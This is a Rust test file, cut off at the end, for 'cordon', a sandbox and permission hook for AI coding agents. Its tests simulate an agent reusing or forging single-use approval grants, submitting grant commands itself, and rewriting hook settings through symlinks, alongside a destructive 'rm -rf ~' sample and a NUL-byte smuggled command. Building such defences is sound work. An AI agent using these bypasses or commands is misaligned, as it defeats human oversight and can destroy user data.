//! `cordon hook claude|codex|gemini`: each host's documented hook input → cordon's exact
//! answer (golden fixtures in `tests/hooks/`), and the rewritten command run for real: under
//! the kernel sandbox, with the line reaching `cordon exec` byte for byte, and an ask approved
//! in the host carried over once through a host grant.

mod common;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{json, Value};

/// A workspace holding the fixtures' policy as `cordon.toml` and `a.txt`.
fn workspace() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let policy = std::fs::read_to_string(fixtures().join("policy.toml")).unwrap();
    std::fs::write(d.path().join("cordon.toml"), policy).unwrap();
    std::fs::write(d.path().join("a.txt"), "hello\n").unwrap();
    d
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hooks")
}

/// Where host grants live for the tests: outside every workspace.
fn runtime_dir() -> PathBuf {
    let d = Path::new(env!("CARGO_TARGET_TMPDIR")).join("runtime");
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// `cordon` with the tests' environment and host grants in [`runtime_dir`].
fn cordon_cmd(dir: &Path) -> Command {
    let mut c = common::command(dir);
    c.env("XDG_RUNTIME_DIR", runtime_dir());
    c
}

/// `cordon hook HOST --policy P` with `stdin`.
fn hook(dir: &Path, host: &str, stdin: &[u8]) -> Output {
    let policy = dir.join("cordon.toml");
    let mut child = cordon_cmd(dir)
        .args(["hook", host, "--policy"])
        .arg(&policy)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = child.stdin.take().unwrap();
    // A hook that stops reading early (huge input) closes its end: that is not a failure here.
    let _ = pipe.write_all(stdin);
    drop(pipe);
    child.wait_with_output().unwrap()
}

/// The placeholders of the fixtures, in every string of `v`.
fn fill(v: &Value, dir: &Path) -> Value {
    match v {
        Value::String(s) => Value::String(
            s.replace("$CWD", dir.to_str().unwrap())
                .replace("$POLICY", dir.join("cordon.toml").to_str().unwrap())
                .replace("$CORDON", env!("CARGO_BIN_EXE_cordon")),
        ),
        Value::Array(a) => Value::Array(a.iter().map(|x| fill(x, dir)).collect()),
        Value::Object(m) => {
            Value::Object(m.iter().map(|(k, x)| (k.clone(), fill(x, dir))).collect())
        }
        other => other.clone(),
    }
}

/// The host grant's id in a rewritten command, replaced by `$GRANT`.
fn mask_grant(s: &str) -> (String, Option<String>) {
    let Some(at) = s.find("--host-grant ") else {
        return (s.to_string(), None);
    };
    let start = at + "--host-grant ".len();
    let id: String = s[start..]
        .chars()
        .take_while(char::is_ascii_hexdigit)
        .collect();
    assert_eq!(id.len(), 32, "grant id in {s}");
    (s.replacen(&id, "$GRANT", 1), Some(id))
}

#[test]
fn golden_fixtures() {
    let mut ran = 0;
    for host in ["claude", "codex", "gemini", "copilot", "opencode"] {
        let mut files: Vec<_> = std::fs::read_dir(fixtures().join(host))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        files.sort();
        for file in files {
            let case: Value =
                serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
            let ws = workspace();
            let stdin = fill(&case["stdin"], ws.path()).to_string();
            let o = hook(ws.path(), host, stdin.as_bytes());
            let name = file.display();
            assert_eq!(
                o.status.code(),
                case["exit"].as_i64().map(|c| c as i32),
                "{name}: exit; stderr: {}",
                common::stderr(&o)
            );
            let out = common::stdout(&o);
            match &case["stdout"] {
                Value::Null => assert_eq!(out, "", "{name}: stdout"),
                want => {
                    assert!(
                        out.ends_with('\n') && out.matches('\n').count() == 1,
                        "{name}: one line: {out}"
                    );
                    let (masked, _) = mask_grant(&out);
                    let got: Value = serde_json::from_str(&masked)
                        .unwrap_or_else(|e| panic!("{name}: {e}: {out}"));
                    assert_eq!(got, fill(want, ws.path()), "{name}");
                }
            }
            if let Some(want) = case["stderr"].as_str() {
                assert!(
                    common::stderr(&o).contains(want),
                    "{name}: stderr {}",
                    common::stderr(&o)
                );
            } else {
                assert_eq!(common::stderr(&o), "", "{name}: stderr");
            }
            ran += 1;
        }
    }
    assert!(ran >= 30, "only {ran} fixtures");
}

#[test]
fn malformed_and_huge_input_is_blocked() {
    let ws = workspace();
    for host in ["claude", "codex", "gemini", "copilot", "opencode"] {
        for bad in [
            &b"not json"[..],
            b"",
            b"[]",
            b"{\"hook_event_name\": 3}",
            b"\xff\xfe",
        ] {
            let o = hook(ws.path(), host, bad);
            assert_eq!(o.status.code(), Some(2), "{host} {bad:?}");
            assert_eq!(common::stdout(&o), "");
            let err = common::stderr(&o);
            assert!(
                err.starts_with("cordon: ") && err.lines().count() == 1,
                "{err}"
            );
        }
        // 9 MiB of valid JSON: over the cap, blocked without being parsed.
        let big = json!({"cwd": ws.path(), "hook_event_name": "PreToolUse", "tool_name": "Write",
            "tool_input": {"file_path": "x", "content": "a".repeat(9 << 20)}})
        .to_string();
        let o = hook(ws.path(), host, big.as_bytes());
        assert_eq!(o.status.code(), Some(2), "{host} huge");
        assert!(
            common::stderr(&o).contains("larger than 8 MiB"),
            "{}",
            common::stderr(&o)
        );
    }
}

/// The Claude Code input for a Bash call of `line` in `dir`.
fn claude_bash(dir: &Path, line: &str) -> String {
    json!({"session_id": "s", "transcript_path": "/t", "cwd": dir, "permission_mode": "default",
        "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": line},
        "tool_use_id": "t"})
    .to_string()
}

/// The rewritten command of an allowed (or asked) Bash call.
fn rewritten(dir: &Path, host: &str, stdin: &str) -> (String, Value) {
    let o = hook(dir, host, stdin.as_bytes());
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let command = match host {
        "gemini" => v["hookSpecificOutput"]["tool_input"]["command"].as_str(),
        "copilot" => v["modifiedArgs"]["command"].as_str(),
        "opencode" => v["args"]["command"].as_str(),
        _ => v["hookSpecificOutput"]["updatedInput"]["command"].as_str(),
    };
    (
        command
            .unwrap_or_else(|| panic!("no rewrite: {v}"))
            .to_string(),
        v,
    )
}

/// Runs `command` as the host would: `bash -c COMMAND` in `dir`.
fn run_as_host(dir: &Path, command: &str) -> Output {
    let mut c = Command::new("bash");
    c.arg("-c")
        .arg(command)
        .current_dir(dir)
        .env("XDG_STATE_HOME", common::state_home())
        .env("XDG_CONFIG_HOME", common::config_home())
        .env("XDG_RUNTIME_DIR", runtime_dir())
        .env_remove("CORDON_POLICY")
        .env_remove("CORDON_SESSION")
        .stdin(Stdio::null());
    c.output().unwrap()
}

/// The audit records of the default log (the fixtures' policy sets none) whose arguments are
/// exactly `bash -c LINE` in `dir`, then those of the log apart beside it, where the runs
/// Codex's hook rewrites record (`--state codex`).
fn records_of(dir: &Path, line: &str) -> Vec<Value> {
    let args = json!({"argv": ["/usr/bin/bash", "-c", line], "cwd": dir});
    let digest = cordon_approval::audit::sha256_hex(
        cordon_approval::audit::canonical_json(&args).as_bytes(),
    );
    let logs = ["cordon/audit.jsonl", "cordon/codex/audit.jsonl"];
    logs.iter()
        .flat_map(|l| {
            std::fs::read_to_string(common::state_home().join(l))
                .unwrap_or_default()
                .lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .filter(|r| r["args_digest"] == digest)
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn the_line_reaches_cordon_exec_byte_for_byte() {
    assert!(
        Path::new("/usr/bin/bash").exists(),
        "install bash (Debian package `bash`): the hook's rewrite is run by bash here"
    );
    let lines = [
        "printf '%s\\n' \"it's\" 'a\"b' \"c'd\"",
        "echo $(echo sub) `echo tick` $((1+2))",
        "printf 'back\\\\slash \\\\n\\n'; echo 'x\\y'",
        "echo one\necho two\n",
        "-not-a-command",
        "echo 'héllo ✓ 日本' \"$HOME\" ${PWD}",
        "echo '' \"\" '''' \\' end",
        "cat <<'EOF'\nhere $x `y`\nEOF",
        // clap strips one `=` after an attached short option's name (`-c=x` is `x`): the
        // rewrite must not let it eat the line's own (bash runs `=echo` as a command name).
        "=echo eaten",
        "==echo",
    ];
    for host in ["claude", "codex", "gemini", "copilot", "opencode"] {
        for line in lines {
            let ws = workspace();
            let dir = ws.path();
            let stdin = match host {
                "claude" => claude_bash(dir, line),
                "codex" => json!({"session_id": "s", "turn_id": "t", "transcript_path": null, "cwd": dir,
                    "hook_event_name": "PreToolUse", "model": "m", "permission_mode": "default",
                    "tool_name": "Bash", "tool_input": {"command": line}, "tool_use_id": "c"}).to_string(),
                "copilot" => json!({"sessionId": "s", "timestamp": 1, "cwd": dir, "toolName": "bash",
                    "toolArgs": {"command": line, "description": "d"}}).to_string(),
                "opencode" => json!({"event": "tool.execute.before", "cwd": dir, "tool": "bash",
                    "sessionID": "s", "callID": "c", "args": {"command": line}}).to_string(),
                _ => json!({"session_id": "s", "transcript_path": "/t", "cwd": dir, "hook_event_name": "BeforeTool",
                    "timestamp": "2026-11-25T00:00:00Z", "tool_name": "run_shell_command",
                    "tool_input": {"command": line}}).to_string(),
            };
            let (command, _) = rewritten(dir, host, &stdin);
            let ran = run_as_host(dir, &command);
            let direct = Command::new("bash")
                .arg("-c")
                .arg(line)
                .current_dir(dir)
                .output()
                .unwrap();
            // Two records with exactly these arguments: the hook's decision and exec's.
            let records = records_of(dir, line);
            assert_eq!(
                records.len(),
                2,
                "{host} {line:?}: {records:?}\n{}",
                common::stderr(&ran)
            );
            assert!(
                records.iter().all(|r| r["decision"] == "allow"),
                "{records:?}"
            );
            let client = match host {
                "claude" => "claude-code",
                "codex" => "codex",
                "copilot" => "copilot-cli",
                "opencode" => "opencode",
                _ => "gemini-cli",
            };
            assert_eq!(
                records[0]["client"], client,
                "the hook's record names the host"
            );
            // Lines that bash itself refuses (no such command) fail both ways alike.
            let refused_by_bash = line.starts_with('-') || line.starts_with('=');
            if refused_by_bash {
                assert_eq!(
                    common::stdout(&ran),
                    common::stdout(&direct),
                    "{host} {line:?}: {}",
                    common::stderr(&ran)
                );
                assert_eq!(
                    ran.status.success(),
                    direct.status.success(),
                    "{host} {line:?}"
                );
            }
            if !refused_by_bash && !line.contains("HOME") {
                assert_eq!(
                    common::stdout(&ran),
                    common::stdout(&direct),
                    "{host} {line:?}: {}",
                    common::stderr(&ran)
                );
                assert!(
                    ran.status.success(),
                    "{host} {line:?}: {}",
                    common::stderr(&ran)
                );
            }
        }
    }
}

#[test]
fn the_rewritten_command_runs_under_the_sandbox() {
    let ws = workspace();
    let dir = ws.path();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("escaped");
    let line = format!("echo inside > in.txt; echo out > {}", target.display());
    let (command, _) = rewritten(dir, "claude", &claude_bash(dir, &line));
    let ran = run_as_host(dir, &command);
    assert_eq!(
        std::fs::read_to_string(dir.join("in.txt")).unwrap(),
        "inside\n"
    );
    assert!(!target.exists(), "a write outside the roots got through");
    assert!(!ran.status.success());
    assert!(
        common::stderr(&ran).contains(target.to_str().unwrap()),
        "{}",
        common::stderr(&ran)
    );
    // The same line run directly (as the host would without cordon) does write there.
    let direct = Command::new("bash")
        .arg("-c")
        .arg(&line)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(direct.status.success() && target.exists());
}

#[test]
fn an_ask_approved_in_claude_code_runs_once() {
    let ws = workspace();
    let dir = ws.path();
    // `git push` asks (the policy); `echo` after it keeps the run harmless.
    let line = "git push --dry-run 2>/dev/null; echo pushed";
    let (command, v) = rewritten(dir, "claude", &claude_bash(dir, line));
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "ask");
    let (_, id) = mask_grant(&command);
    let id = id.unwrap();
    // The user approves in Claude Code: Claude runs the rewritten command.
    let ran = run_as_host(dir, &command);
    assert!(ran.status.success(), "{}", common::stderr(&ran));
    assert_eq!(common::stdout(&ran), "pushed\n");
    let records = records_of(dir, line);
    assert_eq!(records.len(), 2, "{records:?}");
    // The hook never allows an ask: it records it as an ask, handed to the host's prompt.
    assert_eq!(records[0]["decision"], "ask", "{}", records[0]);
    assert_eq!(records[0]["deferred_to"], "claude-code", "{}", records[0]);
    assert!(
        !records[0]["reason"].as_str().unwrap().contains("terminal"),
        "the host's user is asked, not a terminal: {}",
        records[0]
    );
    assert_eq!(records[1]["decision"], "allow");
    assert_eq!(records[1]["by"]["kind"], "user", "{}", records[1]);
    assert_eq!(records[1]["client"], "claude-code", "{}", records[1]);
    // Used up: the same command again is refused.
    let again = run_as_host(dir, &command);
    assert_eq!(again.status.code(), Some(126));
    assert!(
        common::stderr(&again).contains(&format!("host grant {id}: none such")),
        "{}",
        common::stderr(&again)
    );
}

/// The `cordon exec` of an ask the host's user approved loads its policy once: the grant is
/// checked against the policy the run then decides and runs under, not against one loaded
/// for the check alone (a second read and parse per approved call, made before the gate
/// moved a dead run's trust entries aside, and free to differ from the run's). The grant's
/// pin still reads the file as it is (its hash), so such a run reads the policy exactly once
/// more than an allowed one.
#[test]
fn an_approved_ask_loads_its_policy_once() {
    assert!(
        Command::new("strace")
            .arg("-V")
            .output()
            .is_ok_and(|o| o.status.success()),
        "install strace (Debian package `strace`): this test counts the policy's reads"
    );
    let ws = workspace();
    let dir = ws.path();
    let policy = dir.join("cordon.toml");
    let trace = dir.join("trace");
    // How often the host's run of `command` opened the policy file to read it (opens for a
    // link check, `O_PATH`, read nothing).
    let reads = |command: &str| -> usize {
        let o = Command::new("strace")
            .args(["-f", "-qq", "-e", "trace=open,openat,openat2", "-o"])
            .arg(&trace)
            .args(["bash", "-c", command])
            .current_dir(dir)
            .env("XDG_STATE_HOME", common::state_home())
            .env("XDG_CONFIG_HOME", common::config_home())
            .env("XDG_RUNTIME_DIR", runtime_dir())
            .env_remove("CORDON_POLICY")
            .env_remove("CORDON_SESSION")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", common::stderr(&o));
        let quoted = format!("\"{}\"", policy.display());
        std::fs::read_to_string(&trace)
            .unwrap()
            .lines()
            .filter(|l| l.contains(&quoted) && !l.contains("O_PATH") && !l.contains("= -1"))
            .count()
    };
    let (allowed, v) = rewritten(dir, "claude", &claude_bash(dir, "echo allowed"));
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "allow");
    let (asked, v) = rewritten(dir, "claude", &claude_bash(dir, "git push; echo asked"));
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "ask");
    assert!(asked.contains("--host-grant"), "{asked}");
    let once = reads(&allowed);
    assert!(once >= 1, "the trace saw no read of {}", policy.display());
    assert_eq!(
        reads(&asked),
        once + 1,
        "{}",
        std::fs::read_to_string(&trace).unwrap()
    );
}

#[test]
fn a_host_grant_is_bound_to_its_line_and_cannot_be_forged() {
    let ws = workspace();
    let dir = ws.path();
    let line = "git push; echo asked";
    let (command, _) = rewritten(dir, "claude", &claude_bash(dir, line));
    let (_, id) = mask_grant(&command);
    let id = id.unwrap();
    let policy = dir.join("cordon.toml");
    let exec = |id: &str, line: &str| {
        cordon_cmd(dir)
            .args(["exec", "--policy"])
            .arg(&policy)
            .args(["--host-grant", id, "-c", line])
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    // The agent reuses the grant for another line: refused, and the grant is gone.
    let other = exec(&id, "touch pwned; git push");
    assert_eq!(other.status.code(), Some(126), "{}", common::stderr(&other));
    assert!(common::stderr(&other).contains("issued for another command"));
    assert!(!dir.join("pwned").exists());
    assert_eq!(
        exec(&id, line).status.code(),
        Some(126),
        "a grant is used at most once"
    );
    // A grant file cordon did not write (a command that could reach the directory forged it).
    let forged_id = "0123456789abcdef0123456789abcdef";
    let grants = runtime_dir().join("cordon/host-grants");
    std::fs::write(
        grants.join(format!("{forged_id}.json")),
        json!({"v": 1, "host": "claude-code", "line": "touch pwned", "cwd": dir,
            "policy": "x", "expires": u64::MAX})
        .to_string(),
    )
    .unwrap();
    let forged = exec(forged_id, "touch pwned");
    assert_eq!(forged.status.code(), Some(126));
    assert!(
        common::stderr(&forged).contains("not one cordon issued"),
        "{}",
        common::stderr(&forged)
    );
    assert!(!dir.join("pwned").exists());
    // The agent submitting `cordon exec --host-grant` as its own Bash call: denied by the hook.
    let o = hook(
        dir,
        "claude",
        claude_bash(
            dir,
            &format!("cordon exec --host-grant {id} -c 'touch pwned'"),
        )
        .as_bytes(),
    );
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
}

#[test]
fn no_host_grant_where_the_sandbox_could_reach_it() {
    let ws = workspace();
    let dir = ws.path();
    // Grants would live inside the workspace, a writable root: the hook refuses to issue one,
    // and the ask is denied rather than answered.
    let mut child = common::command(dir)
        .env("XDG_RUNTIME_DIR", dir.join("run"))
        .args(["hook", "claude", "--policy"])
        .arg(dir.join("cordon.toml"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(claude_bash(dir, "git push").as_bytes())
        .unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny", "{v}");
    let reason = v["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap();
    assert!(
        reason.contains("which the sandboxed command can reach"),
        "{reason}"
    );
    let grants = dir.join("run/cordon/host-grants");
    assert_eq!(std::fs::read_dir(&grants).map_or(0, |d| d.count()), 0);
}

/// The denials the hook makes before the rules see a call — a host's network tool under
/// `network = "deny"`, a write to the hosts' hook settings, a NUL byte, an empty line, a host
/// grant submitted as a command — are decisions too: each is in the audit log, by the
/// built-in check that made it.
#[test]
fn the_hooks_own_denials_are_recorded() {
    let d = workspace();
    // A log of this test's own: other tests' hooks write the shared one meanwhile.
    let state = tempfile::tempdir().unwrap();
    let log = state.path().join("cordon/audit.jsonl");
    let run_hook = |stdin: &[u8]| {
        let mut child = cordon_cmd(d.path())
            .env("XDG_STATE_HOME", state.path())
            .args(["hook", "claude", "--policy"])
            .arg(d.path().join("cordon.toml"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(stdin).unwrap();
        child.wait_with_output().unwrap()
    };
    let recorded = |check: &str, tool: &str| {
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|r| r["by"]["tag"] == check && r["tool"] == tool)
            .filter(|r| r["decision"] == "deny" && r["client"] == "claude-code")
            .count()
    };
    let cases: [(&str, &str, Value); 5] = [
        (
            "host-network-tool",
            "WebFetch",
            json!({"url": "https://example.org", "prompt": "x"}),
        ),
        (
            "hook-settings",
            "write_file",
            json!({"file_path": d.path().join(".claude/settings.json"), "content": "{}"}),
        ),
        ("nul-byte", "shell", json!({"command": "ls\u{0}rm"})),
        ("empty-line", "shell", json!({"command": "  "})),
        (
            "host-grant-submitted",
            "shell",
            json!({"command": "cordon exec --host-grant 0123 -c 'rm -rf ~'"}),
        ),
    ];
    for (check, tool, input) in cases {
        let host_tool = match (check, tool) {
            (_, "WebFetch") => "WebFetch",
            (_, "write_file") => "Write",
            _ => "Bash",
        };
        let before = recorded(check, tool);
        let stdin = json!({"session_id": "s", "transcript_path": "/t", "cwd": d.path(),
            "permission_mode": "default", "hook_event_name": "PreToolUse",
            "tool_name": host_tool, "tool_input": input, "tool_use_id": "t"});
        let o = run_hook(stdin.to_string().as_bytes());
        assert_eq!(o.status.code(), Some(0), "{check}: {}", common::stderr(&o));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(
            v["hookSpecificOutput"]["permissionDecision"], "deny",
            "{check}: {v}"
        );
        assert_eq!(recorded(check, tool), before + 1, "{check}: not recorded");
    }
    let verify = cordon_cmd(d.path())
        .args(["audit", "verify"])
        .arg(&log)
        .output()
        .unwrap();
    assert_eq!(verify.status.code(), Some(0), "{}", common::stderr(&verify));
}

/// Round 9 (redsurf22): the hosts' hook settings kept through the operator's links — GNU
/// stow's `~/.claude/settings.json -> ~/dots/claude.json`, a project's `.claude -> cfg` —
/// were written by the agent's Write on an ask (the surface's), not refused as the settings
/// themselves are: an approved write could unhook cordon. They are refused by where the
/// write lands.
#[test]
fn hook_settings_kept_through_a_link_are_refused() {
    let d = workspace();
    let home = tempfile::tempdir().unwrap();
    let dots = d.path().join("dots");
    std::fs::create_dir_all(&dots).unwrap();
    std::fs::create_dir_all(home.path().join(".claude")).unwrap();
    std::os::unix::fs::symlink(
        dots.join("claude.json"),
        home.path().join(".claude/settings.json"),
    )
    .unwrap();
    std::fs::create_dir_all(d.path().join("cfg")).unwrap();
    std::os::unix::fs::symlink("cfg", d.path().join(".claude")).unwrap();
    let answer = |file: &Path| {
        let mut child = cordon_cmd(d.path())
            .env("HOME", home.path())
            .args(["hook", "claude", "--policy"])
            .arg(d.path().join("cordon.toml"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let stdin = json!({"session_id": "s", "transcript_path": "/t", "cwd": d.path(),
            "permission_mode": "default", "hook_event_name": "PreToolUse",
            "tool_name": "Write", "tool_input": {"file_path": file, "content": "{}"},
            "tool_use_id": "t"});
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.to_string().as_bytes())
            .unwrap();
        let o = child.wait_with_output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        v["hookSpecificOutput"]["permissionDecision"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    assert_eq!(answer(&dots.join("claude.json")), "deny");
    assert_eq!(answer(&d.path().join("cfg/settings.json")), "deny");
    assert_ne!(answer(&dots.join("notes.json")), "deny");
}

/// Issue 23 (latency): the hook does not sync its record of an allowed shell line. That allow
/// hands out nothing but `cordon exec` of the line, whose own record, appended to the same log
/// and synced before the command starts, makes the hook's durable too (one `fsync` covers the
/// whole file). Inside a real host the hook's sync was its slowest step: it commits the
/// journal with whatever the host had just written (Claude Code's transcript), 4–16 ms in a
/// traced host run against 0.4 ms alone. Traced with the real strace: no sync in the hook for
/// the rewrite, one for an allowed Write (which the host acts on directly; and it shows that
/// the trace sees the syncs made); the allow's record is in the log when the hook answers,
/// and after the rewritten command ran, exec's record follows it and the chain verifies.
#[test]
fn the_hook_leaves_the_sync_of_a_rewritten_allow_to_exec() {
    assert!(
        Command::new("strace")
            .arg("-V")
            .output()
            .is_ok_and(|o| o.status.success()),
        "install strace (Debian package `strace`): this test counts the hook's syncs"
    );
    let d = workspace();
    let dir = d.path();
    // A log of this test's own: other tests' hooks write the shared one meanwhile.
    let state = tempfile::tempdir().unwrap();
    let log = state.path().join("cordon/audit.jsonl");
    let trace = state.path().join("trace");
    let syncs = |host: &str, stdin: &str| -> (Value, usize) {
        let cordon = cordon_cmd(dir);
        let mut c = Command::new("strace");
        c.args([
            "-f",
            "-qq",
            "-e",
            "trace=fsync,fdatasync,sync_file_range,syncfs,sync,msync",
            "-o",
        ])
        .arg(&trace)
        .arg(cordon.get_program())
        .args(["hook", host, "--policy"])
        .arg(dir.join("cordon.toml"))
        .current_dir(dir)
        .env_remove("CORDON_POLICY")
        .env_remove("CORDON_SESSION")
        .envs(cordon.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .env("XDG_STATE_HOME", state.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
        let mut child = c.spawn().unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        let o = child.wait_with_output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
        let traced = std::fs::read_to_string(&trace).unwrap();
        let n = traced
            .lines()
            .filter(|l| !l.contains("+++") && !l.contains("---"))
            .count();
        (serde_json::from_slice(&o.stdout).unwrap(), n)
    };
    let allowed = |v: &Value| v["hookSpecificOutput"]["permissionDecision"] == "allow";

    // The control: an allowed Write is acted on by the host itself, so its record is synced.
    let write = json!({"session_id": "s", "transcript_path": "/t", "cwd": dir,
        "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Write",
        "tool_input": {"file_path": dir.join("new.txt"), "content": "x"}, "tool_use_id": "t"});
    let (v, n) = syncs("claude", &write.to_string());
    assert!(allowed(&v), "{v}");
    assert!(n >= 1, "the allowed Write's record was not synced");

    let line = "echo synced-by-exec >> ran.txt";
    let (v, n) = syncs("claude", &claude_bash(dir, line));
    assert!(allowed(&v), "{v}");
    assert_eq!(
        n,
        0,
        "the hook synced its record of a rewritten allow: {}",
        std::fs::read_to_string(&trace).unwrap()
    );
    let records = |log: &Path| -> Vec<Value> {
        std::fs::read_to_string(log)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let before = records(&log);
    let last = before.last().unwrap();
    assert_eq!(last["decision"], "allow", "{last}");
    assert_eq!(last["client"], "claude-code", "{last}");

    // The host runs the rewrite: exec's record (synced before the run) follows the hook's.
    let command = v["hookSpecificOutput"]["updatedInput"]["command"]
        .as_str()
        .unwrap();
    let ran = Command::new("bash")
        .arg("-c")
        .arg(command)
        .current_dir(dir)
        .env("XDG_STATE_HOME", state.path())
        .env("XDG_CONFIG_HOME", common::config_home())
        .env("XDG_RUNTIME_DIR", runtime_dir())
        .env_remove("CORDON_POLICY")
        .env_remove("CORDON_SESSION")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(ran.status.success(), "{}", common::stderr(&ran));
    assert_eq!(
        std::fs::read_to_string(dir.join("ran.txt")).unwrap(),
        "synced-by-exec\n"
    );
    let after = records(&log);
    assert!(
        after[before.len()..]
            .iter()
            .any(|r| r["decision"] == "allow" && r["client"] != "claude-code"),
        "exec recorded no run after the hook's record: {after:?}"
    );
    let verify = cordon_cmd(dir)
        .args(["audit", "verify"])
        .arg(&log)
        .output()
        .unwrap();
    assert_eq!(verify.status.code(), Some(0), "{}", common::stderr(&verify));

    // Under Codex the rewrite runs inside Codex's sandbox and records apart (`--state codex`,
    // docs/hooks.md): its sync covers nothing of this log, so the hook syncs its own record.
    let codex = json!({"session_id": "s", "turn_id": "t", "transcript_path": null, "cwd": dir,
        "hook_event_name": "PreToolUse", "model": "m", "permission_mode": "default",
        "tool_name": "Bash", "tool_input": {"command": line}, "tool_use_id": "c"});
    let (v, n) = syncs("codex", &codex.to_string());
    assert!(allowed(&v), "{v}");
    let command = v["hookSpecificOutput"]["updatedInput"]["command"]
        .as_str()
        .unwrap();
    assert!(command.contains(" --state codex "), "{command}");
    assert!(
        n >= 1,
        "the Codex hook left its record of a rewritten allow to a sync that never covers it"
    );
}

/// Issue 21, class 1: the host-grant directory lies below XDG_RUNTIME_DIR (or HOME), where an
/// earlier run may have had it in reach. A link planted at `cordon` or `cordon/host-grants`
/// must not make the hook write its grant into the link's target: the ask is denied with a
/// reason naming the link, and nothing appears there.
#[test]
fn a_host_grant_is_never_written_through_a_planted_link() {
    for at in ["cordon", "cordon/host-grants"] {
        let ws = workspace();
        let dir = ws.path();
        let outside = tempfile::tempdir().unwrap();
        let run = outside.path().join("run");
        let elsewhere = outside.path().join("elsewhere");
        std::fs::create_dir_all(&elsewhere).unwrap();
        let link = run.join(at);
        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &link).unwrap();
        let mut child = common::command(dir)
            .env("XDG_RUNTIME_DIR", &run)
            .args(["hook", "claude", "--policy"])
            .arg(dir.join("cordon.toml"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(claude_bash(dir, "git push").as_bytes())
            .unwrap();
        let o = child.wait_with_output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(
            v["hookSpecificOutput"]["permissionDecision"], "deny",
            "{at}: {v}"
        );
        let reason = v["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .unwrap();
        assert!(
            reason.contains(&link.display().to_string()) && reason.contains("symbolic link"),
            "{at}: {reason}"
        );
        let mut left: Vec<_> = Vec::new();
        for e in walkdir(&elsewhere) {
            left.push(e);
        }
        assert!(left.is_empty(), "{at}: written through the link: {left:?}");
    }
}

/// Every entry below `p`.
fn walkdir(p: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(p).unwrap() {
        let path = e.unwrap().path();
        if std::fs::symlink_metadata(&path).unwrap().is_dir() {
            out.extend(walkdir(&path));
        }
        out.push(path);
    }
    out
}

/// A host that never finishes sending its input (stdin left open): the hook blocks the call
/// when its deadline passes, saying what it was waiting for, instead of hanging until the
/// host's timeout (after which the host would run the call).
#[test]
fn a_stalled_input_is_blocked_at_the_deadline() {
    let ws = tempfile::tempdir().unwrap();
    for host in ["claude", "codex", "gemini"] {
        let mut child = common::command(ws.path())
            .args(["hook", host, "--deadline", "1s"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"{\"session_id\": ").unwrap();
        // The hook exits on its own while this end is still open (within a limit generous for
        // a loaded machine; past it the test fails rather than hangs).
        let started = std::time::Instant::now();
        while child.try_wait().unwrap().is_none() {
            if started.elapsed() > std::time::Duration::from_secs(60) {
                let _ = child.kill();
                panic!("{host}: the hook still waits for its input after 60 s");
            }
